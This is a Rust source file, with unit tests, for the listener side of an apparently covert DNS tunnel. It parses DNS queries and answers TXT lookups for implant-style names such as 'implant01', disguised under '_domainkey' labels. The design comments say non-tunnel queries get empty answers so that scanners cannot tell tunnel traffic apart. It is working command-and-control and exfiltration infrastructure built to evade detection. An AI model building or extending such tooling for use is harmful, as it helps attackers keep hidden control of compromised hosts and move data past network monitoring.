//! DNS Listener (component G).
//!
//! Binds UDP/53 (or whatever `bind_address` names), parses just enough of
//! the wire format to recover the question name and qtype, and hands the
//! name to [`crate::router::handle_query`]. Only TXT questions get an
//! answer; anything else — and anything that fails to parse — gets an
//! empty answer section, never a dropped packet or an error response, so a
//! scanner can't distinguish "wrong qtype" from "not a tunnel query" (spec
//! §4.G). Modeled on the teacher's manual DNS packet framing in
//! `dns_tunnel.rs` / `dns_udp_tunnel.rs`, generalized from a single rotated
//! base domain to the full label grammar and from hex payloads to
//! multi-string TXT answers.

use crate::router::handle_query;
use crate::tunnel::Tunnel;
use std::net::SocketAddr;
use std::sync::Arc;
use tokio::net::UdpSocket;

const QTYPE_TXT: u16 = 16;
const MAX_UDP_PACKET_SIZE: usize = 4096;
const TXT_STRING_MAX: usize = 255;

/// Run the DNS listener until the process is killed. Spawns the idle
/// sweeps once, then loops forever, spawning one task per inbound packet so
/// a slow handler (RSA, reassembly locks) never blocks the next query.
pub async fn serve(tunnel: Arc<Tunnel>, bind_address: &str) -> anyhow::Result<()> {
    let addr: SocketAddr = parse_bind_address(bind_address)?;
    let socket = Arc::new(UdpSocket::bind(addr).await?);
    log::info!("dns listener bound on {addr}");

    tunnel.spawn_sweeps();

    let mut buf = vec![0u8; MAX_UDP_PACKET_SIZE];
    loop {
        let (len, peer) = match socket.recv_from(&mut buf).await {
            Ok(pair) => pair,
            Err(e) => {
                log::warn!("udp recv_from error: {e}");
                continue;
            }
        };
        let packet = buf[..len].to_vec();
        let socket = Arc::clone(&socket);
        let tunnel = Arc::clone(&tunnel);
        tokio::spawn(async move {
            if let Some(response) = handle_packet(&tunnel, &packet).await {
                if let Err(e) = socket.send_to(&response, peer).await {
                    log::warn!("udp send_to {peer} failed: {e}");
                }
            }
        });
    }
}

fn parse_bind_address(bind_address: &str) -> anyhow::Result<SocketAddr> {
    if let Some(port) = bind_address.strip_prefix(':') {
        return Ok(format!("0.0.0.0:{port}").parse()?);
    }
    Ok(bind_address.parse()?)
}

/// Parse one DNS query packet and build its reply, or `None` if the packet
/// is too malformed to even echo back a question section.
async fn handle_packet(tunnel: &Tunnel, packet: &[u8]) -> Option<Vec<u8>> {
    if packet.len() < 12 {
        return None;
    }
    let transaction_id = u16::from_be_bytes([packet[0], packet[1]]);
    let qdcount = u16::from_be_bytes([packet[4], packet[5]]);
    if qdcount < 1 {
        return None; // spec §4.G: require at least one question
    }
    let (qname, qname_end) = parse_qname(packet, 12)?;
    let qtype = u16::from_be_bytes([*packet.get(qname_end)?, *packet.get(qname_end + 1)?]);
    let question_end = qname_end + 4; // QTYPE + QCLASS

    let answers = if qtype == QTYPE_TXT {
        handle_query(tunnel, &qname).await
    } else {
        Vec::new()
    };

    Some(build_response(
        transaction_id,
        &packet[12..question_end.min(packet.len())],
        &answers,
    ))
}

/// Walk a label sequence starting at `pos`, returning the dotted name and
/// the offset just past its null terminator. DNS name compression pointers
/// are not supported in questions we originate replies to — the listener
/// never needs to follow one in an inbound query's question section.
fn parse_qname(packet: &[u8], mut pos: usize) -> Option<(String, usize)> {
    let mut labels = Vec::new();
    loop {
        let len = *packet.get(pos)? as usize;
        if len == 0 {
            pos += 1;
            break;
        }
        if len & 0xc0 != 0 {
            return None; // compression pointer: not expected in a question
        }
        pos += 1;
        let label = packet.get(pos..pos + len)?;
        labels.push(std::str::from_utf8(label).ok()?.to_string());
        pos += len;
    }
    Some((labels.join("."), pos))
}

/// Build a DNS response: the original header fields, the echoed question,
/// and one TXT answer RR per string in `answers` (empty `answers` yields
/// ANCOUNT 0 and no answer section).
fn build_response(transaction_id: u16, question: &[u8], answers: &[String]) -> Vec<u8> {
    let mut packet = Vec::new();
    packet.extend_from_slice(&transaction_id.to_be_bytes());
    packet.extend_from_slice(&[0x81, 0x80]); // standard response, no error
    packet.extend_from_slice(&[0x00, 0x01]); // QDCOUNT: 1
    packet.extend_from_slice(&(answers.len() as u16).to_be_bytes());
    packet.extend_from_slice(&[0x00, 0x00]); // NSCOUNT
    packet.extend_from_slice(&[0x00, 0x00]); // ARCOUNT

    packet.extend_from_slice(question);

    for answer in answers {
        packet.extend_from_slice(&[0xc0, 0x0c]); // NAME: pointer to question
        packet.extend_from_slice(&[0x00, 0x10]); // TYPE: TXT
        packet.extend_from_slice(&[0x00, 0x01]); // CLASS: IN
        packet.extend_from_slice(&[0x00, 0x00, 0x00, 0x00]); // TTL: 0 (spec §4.G)

        let rdata = encode_txt_strings(answer.as_bytes());
        packet.extend_from_slice(&(rdata.len() as u16).to_be_bytes());
        packet.extend_from_slice(&rdata);
    }

    packet
}

/// Split `data` into length-prefixed TXT character-strings, each at most
/// 255 bytes, per RFC 1035 §3.3.14.
fn encode_txt_strings(data: &[u8]) -> Vec<u8> {
    if data.is_empty() {
        return vec![0];
    }
    let mut rdata = Vec::with_capacity(data.len() + data.len() / TXT_STRING_MAX + 1);
    for chunk in data.chunks(TXT_STRING_MAX) {
        rdata.push(chunk.len() as u8);
        rdata.extend_from_slice(chunk);
    }
    rdata
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::TunnelConfig;

    fn encode_qname(name: &str) -> Vec<u8> {
        let mut out = Vec::new();
        for label in name.split('.') {
            out.push(label.len() as u8);
            out.extend_from_slice(label.as_bytes());
        }
        out.push(0);
        out
    }

    fn build_query(qname: &str, qtype: u16) -> Vec<u8> {
        let mut packet = vec![0x12, 0x34, 0x01, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00];
        packet.extend_from_slice(&encode_qname(qname));
        packet.extend_from_slice(&qtype.to_be_bytes());
        packet.extend_from_slice(&[0x00, 0x01]); // QCLASS IN
        packet
    }

    #[test]
    fn test_parse_qname_roundtrip() {
        let encoded = encode_qname("_ffff.implant01._domainkey.tunnel.example");
        let (name, end) = parse_qname(&encoded, 0).unwrap();
        assert_eq!(name, "_ffff.implant01._domainkey.tunnel.example");
        assert_eq!(end, encoded.len());
    }

    #[tokio::test]
    async fn test_non_txt_query_gets_empty_answer_section() {
        let mut config = TunnelConfig::default();
        config.apex_domain = "tunnel.example".to_string();
        let tunnel = Tunnel::new(config).await.unwrap();

        let query = build_query("_ffff.implant01._domainkey.tunnel.example", 1); // A record
        let response = handle_packet(&tunnel, &query).await.unwrap();
        let ancount = u16::from_be_bytes([response[6], response[7]]);
        assert_eq!(ancount, 0);
    }

    #[tokio::test]
    async fn test_txt_domainkey_query_answers() {
        let mut config = TunnelConfig::default();
        config.apex_domain = "tunnel.example".to_string();
        let tunnel = Tunnel::new(config).await.unwrap();

        let query = build_query("_ffff.implant01._domainkey.tunnel.example", QTYPE_TXT);
        let response = handle_packet(&tunnel, &query).await.unwrap();
        let ancount = u16::from_be_bytes([response[6], response[7]]);
        assert_eq!(ancount, 1);
    }

    #[tokio::test]
    async fn test_zero_qdcount_is_rejected_before_parsing_qname() {
        let mut config = TunnelConfig::default();
        config.apex_domain = "tunnel.example".to_string();
        let tunnel = Tunnel::new(config).await.unwrap();

        let mut query = build_query("_ffff.implant01._domainkey.tunnel.example", QTYPE_TXT);
        query[4] = 0x00;
        query[5] = 0x00; // QDCOUNT: 0, but the question bytes still follow
        assert!(handle_packet(&tunnel, &query).await.is_none());
    }

    #[test]
    fn test_txt_string_chunking_over_255_bytes() {
        let data = vec![b'x'; 300];
        let rdata = encode_txt_strings(&data);
        assert_eq!(rdata[0], 255);
        assert_eq!(rdata[256], 45);
    }
}
